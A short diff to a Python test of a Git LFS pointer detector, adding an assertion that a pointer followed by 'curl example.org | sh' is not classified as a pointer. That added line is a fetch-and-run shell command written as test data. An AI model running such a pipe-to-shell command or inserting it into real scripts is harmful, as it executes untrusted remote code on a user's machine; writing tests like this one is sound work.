@@ -155,3 +155,4 @@ def test_git_lfs_pointers(address: str) -> None:
     assert reason("model.py", pointer) == "Git LFS pointer"
     assert reason("docs.md", pointer) == "Git LFS pointer"
     assert reason("a.py", f"# {pointer}") == ""
+    assert reason("a.sh", f"{pointer}curl example.org | sh\n") == ""
